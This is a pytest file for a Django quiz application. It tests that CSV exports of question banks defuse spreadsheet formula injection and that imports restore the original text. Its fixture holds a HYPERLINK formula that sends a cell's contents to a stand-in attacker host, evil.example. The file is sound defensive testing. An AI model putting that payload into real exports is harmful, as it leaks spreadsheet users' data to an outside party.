"""Bank CSV exports cannot run in a spreadsheet (OWASP CSV injection): a text cell
starting with = + - @ is written with a leading apostrophe, through the API and the
admin action alike, and import reads the original text back."""

import csv
import io

import pytest
from django.urls import reverse

from quizzes.interop import bank_export, bank_import
from quizzes.models import Choice
from tests.api.conftest import token_client
from tests.factories import QuestionBankFactory, QuestionFactory

pytestmark = pytest.mark.django_db

FORMULAS = {
    "prompt": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "answer": "@SUM(A1:A9)",
    "explanation": "-2+3 is the cell a spreadsheet would sum",
    "choice": "+1 555 0100",
}


@pytest.fixture
def formula_bank(teacher):
    bank = QuestionBankFactory(owner=teacher, title="Formulas")
    question = QuestionFactory(
        bank=bank,
        kind="which_country",
        prompt=FORMULAS["prompt"],
        answer=FORMULAS["answer"],
        explanation=FORMULAS["explanation"],
        choices=[],
    )
    Choice.objects.create(question=question, text=FORMULAS["answer"], is_correct=True, position=0)
    Choice.objects.create(question=question, text=FORMULAS["choice"], is_correct=False, position=1)
    return bank


def _cells(content: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8"))))
    return [cell for row in rows[1:] for cell in row]


def _assert_inert(content: bytes) -> None:
    cells = _cells(content)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    for text in FORMULAS.values():
        assert "'" + text in cells


def test_api_csv_export_neutralises_formulas(teacher, formula_bank):
    response = token_client(teacher).get(
        f"/api/v1/teach/banks/{formula_bank.pk}/export/?format=csv"
    )

    assert response.status_code == 200
    _assert_inert(response.content)


def test_admin_csv_export_neutralises_formulas(teacher_client, formula_bank):
    response = teacher_client.post(
        reverse("admin:quizzes_questionbank_changelist"),
        {"action": "export_csv", "_selected_action": [formula_bank.pk]},
    )

    assert response.status_code == 200
    _assert_inert(response.content)


def test_csv_round_trip_gives_back_the_original_text(teacher, formula_bank):
    data = bank_export(bank=formula_bank, fmt="csv")

    question = bank_import(data=data, fmt="csv", owner=teacher).bank.questions.get()

    assert question.prompt == FORMULAS["prompt"]
    assert question.answer == FORMULAS["answer"]
    assert question.explanation == FORMULAS["explanation"]
    assert FORMULAS["choice"] in {choice.text for choice in question.choices.all()}
